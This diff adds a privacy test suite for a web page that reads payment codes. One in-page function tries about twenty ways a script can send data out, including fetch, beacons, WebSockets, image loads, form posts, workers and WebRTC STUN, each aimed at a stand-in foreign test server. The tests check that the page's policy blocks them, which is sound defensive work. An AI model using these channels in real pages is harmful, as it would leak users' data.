@@ -1,0 +1,304 @@
+// @ts-check
+/**
+ * Nothing leaves the device and nothing stays on it.
+ *
+ * That nothing is sent on an ordinary visit is asserted in every test (see visit.js); here the page itself is made to
+ * try, and what it leaves behind is looked for.
+ */
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { code } from '../codes.js';
+import * as fixtures from '../fixtures.js';
+import { action, answerFor, confirm, step } from '../visit.js';
+
+/** @typedef {import('../visit.js').Page} Page */
+
+/** @param {import('../visit.js').Stage} stage */
+export function privacy(stage) {
+  const { visit } = stage;
+
+  for (const from of /** @type {const} */ (['http', 'file'])) {
+    visit(
+      `no way out of the page reaches anyone, opened from ${from}`,
+      async (page) => {
+        const before = stage.server.arrivals().length;
+        const tried = await page.evaluate(inPageEscapes, targets(stage));
+        assert.ok(tried.length >= 20, `expected every way to be tried; found ${tried.join(', ')}`);
+        assert.deepEqual(stage.server.arrivals(before), []);
+        assert.equal(
+          await page.evaluate(() => document.querySelector('main')?.dataset.step),
+          'start',
+          'the page is still there',
+        );
+      },
+      { from, loud: true },
+    );
+  }
+
+  test(`${stage.name}: the same ways do reach a server from a page without the policy`, async () => {
+    const page = await stage.engine.newPage();
+    try {
+      await page.open(`${stage.server.own}/unprotected.html`);
+      const before = stage.server.arrivals().length;
+      await page.evaluate(inPageEscapes, targets(stage));
+      const foreign = stage.server.arrivals(before).filter(({ at }) => at === 'foreign');
+      const reached = new Set(foreign.map(({ what }) => /\/(via-[a-z-]+)/.exec(what)?.[1]));
+      for (const way of [
+        'via-fetch',
+        'via-xhr',
+        'via-img',
+        'via-websocket',
+        'via-import',
+        'via-worker-fetch',
+        'via-iframe',
+      ]) {
+        assert.ok(reached.has(way), `expected ${way} to arrive; found ${[...reached].join(', ')}`);
+      }
+    } finally {
+      await page.close();
+    }
+  });
+
+  visit(
+    'the policy has nothing to refuse: the page does not even try',
+    async (page) => {
+      await answerFor(page, code());
+      assert.deepEqual(page.refusals(), []);
+    },
+    { skip: stage.name === 'webkit' && 'the driver does not tell' },
+  );
+
+  visit('what could send past the policy is gone', async (page) => {
+    const left = await page.evaluate(() => {
+      const doors = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'WebTransport', 'SharedWorker'];
+      const there = doors.filter((name) => typeof (/** @type {any} */ (window)[name]) !== 'undefined');
+      if (typeof (/** @type {any} */ (navigator).sendBeacon) !== 'undefined') there.push('sendBeacon');
+      return there;
+    });
+    assert.deepEqual(left, []);
+  });
+
+  visit(
+    'what could send past the policy is gone in the worker too, and the policy holds there',
+    async (page) => {
+      await answerFor(page, code());
+      const seen = await page.evaluateInWorkers(async () => {
+        const scope = /** @type {any} */ (globalThis);
+        const there = ['RTCPeerConnection', 'RTCDataChannel', 'WebTransport', 'SharedWorker'].filter(
+          (name) => typeof scope[name] !== 'undefined',
+        );
+        const fetched = await fetch('data:,x').then(
+          () => 'fetched',
+          () => 'refused',
+        );
+        return { there, fetched };
+      });
+      assert.deepEqual(seen, [{ there: [], fetched: 'refused' }]);
+    },
+    { skip: stage.name !== 'chromium' && 'the driver does not reach into workers', loud: true },
+  );
+
+  visit('after “start again” no digit is left anywhere', async (page) => {
+    const digits = code({ amount: 43_210, free: '098760543209876054320' });
+    const before = await page.evaluate(inPageTraces);
+    assert.equal((await answerFor(page, digits)).verdict, 'payable');
+    const during = await page.evaluate(inPageTraces);
+    assert.equal(during.address, before.address, 'the address says nothing of what was read');
+    assert.equal(during.history, before.history, 'no entry of the history says anything of what was read');
+    assert.doesNotMatch(during.title, /[0-9０-９]/, 'nor does the title');
+    await page.click(action('restart'));
+    await step(page, 'start');
+    const after = await page.evaluate(inPageTraces);
+    assert.deepEqual({ ...after, markup: '', values: [] }, { ...before, markup: '', values: [] });
+    for (const trace of ['43,210', '43210', digits, digits.slice(8, 30), '98760543209876']) {
+      assert.ok(!after.markup.includes(trace), `expected no ${trace} in the document`);
+      assert.ok(!after.values.some((value) => value.includes(trace)), `expected no ${trace} in a field`);
+    }
+    // A field that comes back must come back empty.
+    await page.click(action('type'));
+    await step(page, 'typing');
+    const values = (await page.evaluate(inPageTraces)).values.filter(Boolean);
+    assert.deepEqual(values, []);
+  });
+
+  visit('after a photo, too, nothing is stored and nothing is kept', async (page) => {
+    const before = await page.evaluate(inPageTraces);
+    await page.setFile('[data-input="photo"]', await fixtures.photo());
+    await confirm(page);
+    await page.click(action('restart'));
+    await step(page, 'start');
+    const after = await page.evaluate(inPageTraces);
+    assert.deepEqual(after.storage, before.storage);
+    assert.deepEqual(after.values, before.values);
+    assert.ok(!after.markup.includes('12,500'));
+  });
+
+  visit('nothing is ever stored', async (page) => {
+    await answerFor(page, code());
+    const { storage } = await page.evaluate(inPageTraces);
+    assert.deepEqual(storage, { local: 0, session: 0, databases: 0, caches: 0, cookie: '', workers: 0 });
+  });
+
+  visit('fields offer nothing to the browser to remember or to look up', async (page) => {
+    await page.click(action('type'));
+    await step(page, 'typing');
+    const fields = await page.evaluate(() =>
+      [...document.querySelectorAll('[data-input="digits"]')].map((field) => [
+        field.getAttribute('autocomplete'),
+        field.getAttribute('spellcheck'),
+        field.hasAttribute('name'),
+      ]),
+    );
+    assert.ok(fields.length >= 1);
+    for (const field of fields) assert.deepEqual(field, ['off', 'false', false]);
+  });
+}
+
+/** @param {import('../visit.js').Stage} stage */
+const targets = ({ server }) => ({ own: server.own, foreign: server.foreign, udpPort: server.udpPort });
+
+/**
+ * In page: everything that a document can be found to keep.
+ */
+async function inPageTraces() {
+  const count = async (/** @type {() => Promise<unknown[]>} */ list) => {
+    try {
+      return (await list()).length;
+    } catch {
+      // Where the store does not exist, or is shut to a page from disk, nothing can be in it.
+      return 0;
+    }
+  };
+  const safe = (/** @type {() => any} */ get) => {
+    try {
+      return get();
+    } catch {
+      return 0;
+    }
+  };
+  return {
+    address: location.href,
+    title: document.title,
+    history: `${history.length} ${JSON.stringify(history.state)}`,
+    markup: document.documentElement.outerHTML.replace(/<script[\s\S]*?<\/script>/g, ''),
+    values: [...document.querySelectorAll('input, textarea')].map(
+      (field) => /** @type {HTMLInputElement} */ (field).value,
+    ),
+    storage: {
+      local: safe(() => localStorage.length),
+      session: safe(() => sessionStorage.length),
+      databases: await count(async () => (await indexedDB.databases?.()) ?? []),
+      caches: await count(async () => await caches.keys()),
+      cookie: safe(() => document.cookie),
+      workers: await count(async () => [...(await navigator.serviceWorker.getRegistrations())]),
+    },
+  };
+}
+
+/**
+ * In page: tries every way out that a script has, to both servers.
+ *
+ * @param {{ own: string, foreign: string, udpPort: number }} to
+ * @returns {Promise<string[]>} what was tried
+ */
+async function inPageEscapes(to) {
+  /** @type {string[]} */
+  const tried = [];
+  /** @type {Promise<unknown>[]} */
+  const ends = [];
+  const attempt = (/** @type {string} */ name, /** @type {() => unknown} */ run) => {
+    tried.push(name);
+    try {
+      ends.push(Promise.resolve(run()).catch(() => undefined));
+    } catch {
+      // Refused on the spot, as it should be.
+    }
+  };
+  /** Adds an element and waits until it has loaded or failed. */
+  const element = (/** @type {string} */ tag, /** @type {Record<string, string>} */ attributes) =>
+    new Promise((resolve) => {
+      const made = document.createElement(tag);
+      made.onload = resolve;
+      made.onerror = resolve;
+      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
+      document.body.append(made);
+    });
+
+  for (const [whose, base] of [
+    ['own', to.own],
+    ['foreign', to.foreign],
+  ]) {
+    const url = (/** @type {string} */ way) => `${base}/via-${way}?digits=91912345`;
+    const socket = (/** @type {string} */ way) => url(way).replace('http', 'ws');
+    const named = (/** @type {string} */ way) => `${whose} ${way}`;
+    attempt(named('fetch'), () => fetch(url('fetch'), { mode: 'no-cors' }));
+    attempt(named('fetch-keepalive'), () =>
+      fetch(url('keepalive'), { mode: 'no-cors', method: 'POST', body: '9', keepalive: true }),
+    );
+    attempt(named('xhr'), () => {
+      const request = new XMLHttpRequest();
+      request.open('GET', url('xhr'));
+      request.send();
+      return new Promise((resolve) => (request.onloadend = resolve));
+    });
+    attempt(named('websocket'), () => {
+      const opened = new WebSocket(socket('websocket'));
+      return new Promise((resolve) => (opened.onerror = opened.onopen = resolve));
+    });
+    attempt(named('event-source'), () => {
+      const source = new EventSource(url('event-source'));
+      return new Promise((resolve) => {
+        source.onerror = source.onopen = () => {
+          source.close();
+          resolve(undefined);
+        };
+      });
+    });
+    attempt(named('beacon'), () => navigator.sendBeacon(url('beacon'), '9'));
+    attempt(named('img'), () => element('img', { src: url('img') }));
+    attempt(named('script'), () => element('script', { src: url('script') }));
+    attempt(named('style'), () => element('link', { rel: 'stylesheet', href: url('style') }));
+    attempt(named('preload'), () => element('link', { rel: 'preload', as: 'image', href: url('preload') }));
+    attempt(named('iframe'), () => element('iframe', { src: url('iframe') }));
+    attempt(named('object'), () => element('object', { data: url('object') }));
+    attempt(named('video'), () => element('video', { src: url('video'), preload: 'auto' }));
+    attempt(named('font'), () => new FontFace('leak', `url(${url('font')})`).load());
+    attempt(named('import'), () => import(url('import')));
+    attempt(named('worker'), () => {
+      const worker = new Worker(url('worker'));
+      return new Promise((resolve) => (worker.onerror = worker.onmessage = resolve));
+    });
+    attempt(named('worker-fetch'), () => {
+      const source = `fetch(${JSON.stringify(url('worker-fetch'))}, { mode: 'no-cors' })
+        .catch(() => {}).then(() => postMessage(0));`;
+      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
+      return new Promise((resolve) => (worker.onerror = worker.onmessage = resolve));
+    });
+    attempt(named('form'), () => {
+      // Into a frame, so that a form that does get through does not take the test's page away.
+      const frame = document.createElement('iframe');
+      frame.name = `frame-${whose}`;
+      document.body.append(frame);
+      const form = document.createElement('form');
+      Object.assign(form, { action: url('form'), method: 'post', target: frame.name });
+      document.body.append(form);
+      form.submit();
+    });
+    attempt(named('ping'), () => {
+      const link = document.createElement('a');
+      Object.assign(link, { href: '#', ping: url('ping') });
+      document.body.append(link);
+      link.click();
+    });
+  }
+  attempt('stun', () => {
+    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${to.udpPort}` }] });
+    connection.createDataChannel('leak');
+    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
+  });
+  const patience = new Promise((resolve) => setTimeout(resolve, 2500));
+  await Promise.race([Promise.all(ends), patience]);
+  // What was sent may still be under way to the server's ear.
+  await new Promise((resolve) => setTimeout(resolve, 100));
+  return tried;
+}
